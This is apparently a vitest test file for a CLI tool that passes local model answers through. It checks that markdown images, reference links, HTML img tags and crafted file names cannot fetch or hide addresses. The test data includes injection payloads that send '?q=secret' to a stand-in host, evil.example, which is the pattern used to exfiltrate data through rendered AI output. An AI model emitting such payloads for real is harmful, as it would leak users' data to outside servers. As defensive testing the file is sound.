import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { reply } from '../scripted-ollama/scripted-ollama.ts'
import { localBrain } from '../doors/cli/local-brain.ts'
import { activeParts, codeOf } from '../markdown-readers.ts'
import { temporaryFolder } from '../workspace-fixture.ts'
import { ollama } from '../doors/cli/ollama.ts'

const hostile = [
  '![a [b] c](https://evil.example/?q=secret)',
  '![x][y] \\![z](https://evil.example/?q=secret) `![`](https://evil.example/?q=secret)',
  '[y]: https://evil.example/?q=secret',
  '[https://good.example](https://evil.example/?q=secret) [docs](https://evil.example/?q=secret)',
  '<img src=https://evil.example/?q=secret> <a href="https://evil.example">x</a> <!-- x -->',
  '[![badge](https://evil.example/b.svg)](https://evil.example)',
]

describe('an answer in prose fetches nothing and hides no address', () => {
  const answer = `# Answer\n\n${hostile.join('\n\n')}\n\n> ${hostile[0]}\n\n- item\n  ${hostile[4]}\n`

  async function ask(text: string, more: string[] = []) {
    const folder = temporaryFolder({ 'a.js': 'export const a = 1\n' })
    const server = await ollama(() => reply.text(text))
    const run = await localBrain([...more, 'what is in a.js?'], { cwd: folder.root, host: server.url })
    expect(run.code).toBe(0)
    return { run, folder }
  }

  test('on standard output', async () => {
    const { run } = await ask(answer)
    expect(activeParts(answer).length).toBeGreaterThan(8)
    expect(activeParts(run.stdout)).toEqual([])
    expect(run.stdout).toContain('https://evil.example/?q=secret')
  })

  test('in a file', async () => {
    const { folder } = await ask(answer, ['-o', 'answer.md'])
    expect(activeParts(readFileSync(join(folder.root, 'answer.md'), 'utf8'))).toEqual([])
  })

  test('as compact text, and when it is printed again', async () => {
    const { run } = await ask(answer, ['--format', 'compact'])
    expect(activeParts(run.stdout)).toEqual([])
    const folder = temporaryFolder({ 'a.js': '' })
    const at = { cwd: folder.root, host: (await ollama(() => reply.text(answer))).url, env: { HOME: folder.root } }
    await localBrain(['what is this?'], at)
    const again = await localBrain(['last'], at)
    expect(again.stdout).toContain('# Answer')
    expect(activeParts(again.stdout)).toEqual([])
  })

  test('and what is ordinary in it stays', async () => {
    const ordinary = [
      '## Why\n\nIt *adds* **two** numbers, see `a[0](b)` and <https://example.com>.',
      '1. one\n2. two\n   ```html\n   <img src="a.png">\n   ```',
      '| a | b |\n|---|---|\n| `Map<K, V>` | 2 |',
      '```js\nconst a = list[0](x) // ![not an image](y)\n```',
    ].join('\n\n')
    const { run } = await ask(`${ordinary}\n\n${hostile[0]}`)
    expect(run.stdout).toContain(ordinary)
    expect(codeOf(run.stdout)).toEqual(codeOf(ordinary))
    expect((await ask(ordinary)).run.stdout).toBe(`${ordinary}\n`)
  })
})

describe('no field of a finding does either', () => {
  const finding = (text: string) => ({
    quote: 'export const a = 1',
    defect: 'race',
    title: text,
    message: text,
    trigger: text,
    severity: 'high',
    suggestion: text,
  })

  test.each(hostile)('%s', async (text) => {
    const { root } = temporaryFolder({ 'a.js': 'export const a = 1\n' })
    const server = await ollama(() => reply.json({ analysis: '', findings: [finding(text)] }))
    const at = { cwd: root, host: server.url, env: { HOME: root } }
    const args = ['-s', 'code-review', '-f', 'a.js', '--no-verify-findings']
    const run = await localBrain(args, at)
    expect(run.stdout).toContain('- **medium** a.js:1')
    expect(activeParts(run.stdout)).toEqual([])
    const { stdout } = await localBrain([...args, '--format', 'rdjson'], at)
    const { diagnostics } = JSON.parse(stdout) as { diagnostics: { message: string }[] }
    expect(diagnostics).toHaveLength(1)
    for (const { message } of diagnostics) expect(activeParts(message)).toEqual([])
  })

  test('nor a quote or a name of a file, reviewed or not', async () => {
    const name = '![x](evil.example) [y](z) <img src=x>'
    const line = 'const a = 1 // ``` ![a](https://evil.example) </code>'
    const { root } = temporaryFolder({ [`${name}.js`]: `${line}\n`, [`${name}.bin`]: '\0\0\0', [`${name}]`]: '\0' })
    const server = await ollama(() => reply.json({ analysis: '', findings: [{ ...finding('t'), quote: line }] }))
    const run = await localBrain(['-s', 'code-review', '-d', '.', '--no-verify-findings'], {
      cwd: root,
      host: server.url,
    })
    expect(run.stdout).toContain('evil.example')
    expect(run.stdout).toContain('Not reviewed: ')
    expect(activeParts(run.stdout)).toEqual([])
  })
})
